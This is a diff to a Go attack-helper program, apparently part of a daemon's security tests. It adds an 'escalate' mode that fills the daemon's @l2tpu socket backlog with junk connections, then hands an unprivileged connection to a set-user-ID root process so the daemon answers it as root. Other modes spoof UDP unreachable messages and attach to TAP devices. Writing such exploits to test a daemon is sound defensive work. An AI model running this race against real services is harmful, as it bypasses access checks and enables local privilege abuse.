@@ -17,6 +17,12 @@
 //	                        millisecond) quoting a UDP datagram from L to R
 //	                        (ADDR:PORT, IPv4), to L, as R's host would;
 //	                        needs a raw socket
+//	attacker escalate PROG  connect to @l2tpu (behind 900 connections a child
+//	                        opened, which keep the daemon busy), then execute
+//	                        PROG (a set-user-ID root copy of this program) as
+//	                        "attacker escalated FD", which sends {"op":"list"}
+//	                        on the connection it inherited and prints the
+//	                        answer
 //	attacker attach IFNAME TUN  attach a queue to a TAP device (TUNSETIFF)
 //	                        through TUN, a node of /dev/net/tun: mode 0666
 //	                        on stock distributions, where anyone opens it
@@ -31,6 +37,7 @@ import (
 	"net"
 	"net/netip"
 	"os"
+	"os/exec"
 	"strconv"
 	"syscall"
 	"time"
@@ -77,6 +84,27 @@ func main() {
 			os.Exit(2)
 		}
 		fmt.Println(unreach(netip.MustParseAddrPort(os.Args[2]), netip.MustParseAddrPort(os.Args[3]), n))
+	case "escalate":
+		fmt.Println(escalate(os.Args[2]))
+	case "junk":
+		n, err := strconv.Atoi(os.Args[2])
+		if err != nil {
+			os.Exit(2)
+		}
+		for range n {
+			fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+			if err != nil || unix.Connect(fd, &unix.SockaddrUnix{Name: "@l2tpu"}) != nil {
+				break // the backlog is full: enough
+			}
+		}
+		fmt.Print("ok\n")
+		time.Sleep(10 * time.Second)
+	case "escalated":
+		fd, err := strconv.Atoi(os.Args[2])
+		if err != nil {
+			os.Exit(2)
+		}
+		fmt.Println(escalated(fd))
 	case "attach":
 		if len(os.Args) != 4 {
 			os.Exit(2)
@@ -102,6 +130,55 @@ func unreach(local, remote netip.AddrPort, n int) string {
 		time.Sleep(time.Millisecond)
 	}
 	return "ok"
+}
+
+func escalate(prog string) string {
+	// The queue ahead, from another process (which stays nobody, so that
+	// the daemon refuses those connections one by one).
+	junk := exec.Command(os.Args[0], "junk", "900")
+	out, err := junk.StdoutPipe()
+	if err == nil {
+		err = junk.Start()
+	}
+	if err != nil {
+		return err.Error()
+	}
+	defer junk.Process.Kill()
+	ready := make([]byte, 3)
+	if _, err := io.ReadFull(out, ready); err != nil {
+		return "junk: " + err.Error()
+	}
+	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
+	if err == nil {
+		err = unix.Connect(fd, &unix.SockaddrUnix{Name: "@l2tpu"})
+	}
+	if err != nil {
+		return err.Error()
+	}
+	// The connection is this process's, as nobody; the program it runs
+	// next is root's.
+	err = unix.Exec(prog, []string{prog, "escalated", strconv.Itoa(fd)}, nil)
+	return err.Error()
+}
+
+func escalated(fd int) string {
+	if os.Geteuid() != 0 {
+		return fmt.Sprintf("not set-user-ID root: euid %d", os.Geteuid())
+	}
+	if _, err := unix.Write(fd, []byte("{\"op\":\"list\"}\n")); err != nil {
+		return err.Error()
+	}
+	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 10})
+	var out []byte
+	buf := make([]byte, 65536)
+	for {
+		n, err := unix.Read(fd, buf)
+		if n <= 0 || err != nil {
+			break
+		}
+		out = append(out, buf[:n]...)
+	}
+	return "answer " + string(out)
 }
 
 func squatUDP(addr string) {
